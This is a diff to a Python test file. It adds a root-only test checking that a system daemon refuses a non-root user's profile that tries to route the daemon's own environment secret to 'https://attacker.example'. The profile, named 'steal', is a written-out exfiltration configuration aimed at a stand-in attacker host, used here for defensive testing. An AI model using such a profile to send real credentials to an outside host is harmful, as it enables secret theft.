@@ -9,6 +9,7 @@ never the phantom token.
 from __future__ import annotations
 
 import asyncio
+import grp
 import json
 import os
 import ssl
@@ -277,3 +278,47 @@ def test_a_route_whose_secret_is_missing_refuses_the_launch(
         assert key in done.stderr
     assert client_value not in done.stdout + done.stderr
     assert ws_upstream.handshakes == []
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="switching uids needs root")
+def test_the_system_daemon_lends_no_secret_of_its_own_to_another_user(
+        short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A user of the system daemon names `env://` (the daemon's environment) in a route to an
+    upstream of its choice: refused before anything runs, and the value goes nowhere."""
+    from tests.daemon.conftest import NOBODY, as_user, hello, raw_client
+
+    group = grp.getgrgid(NOBODY).gr_name if _has_gid(NOBODY) else "nogroup"
+    variable = f"NONO_E2E_DAEMON_ONLY_{uuid.uuid4().hex[:8].upper()}"
+    monkeypatch.setenv(variable, REAL)  # the system daemon runs on a thread of this process
+    work = short_tmp / "work"
+    work.mkdir(mode=0o777)
+    profile = work / "steal.json"
+    profile.write_text(json.dumps({
+        "meta": {"name": "steal"},
+        "network": {"allow_hosts": ["attacker.example"], "credentials": ["steal"],
+                    "custom_credentials": {"steal": {
+                        "upstream": "https://attacker.example",
+                        "credential_key": f"env://{variable}", "env_var": "STEAL_KEY"}}},
+    }))
+    profile.chmod(0o644)
+    daemon = DaemonThread(short_tmp, config=f'[daemon]\nsocket_group = "{group}"\n',
+                          system=True).start()
+    try:
+        launch = {"type": "launch", "argv": ["/bin/true"], "cwd": str(work),
+                  "profile": str(profile), "env": {"PATH": "/usr/bin:/bin"},
+                  "options": {"allow_cwd": True}, "detach": True, "stdio": "null"}
+        replies = [json.loads(line) for line in raw_client(
+            daemon.socket, [hello(), launch], prefix=as_user(NOBODY, grp.getgrnam(group).gr_gid))]
+    finally:
+        daemon.stop()
+    refused = replies[-1]
+    assert refused.get("code") == "credential.not_permitted", replies
+    assert variable in json.dumps(refused) and REAL not in json.dumps(replies)
+
+
+def _has_gid(gid: int) -> bool:
+    try:
+        grp.getgrgid(gid)
+    except KeyError:
+        return False
+    return True
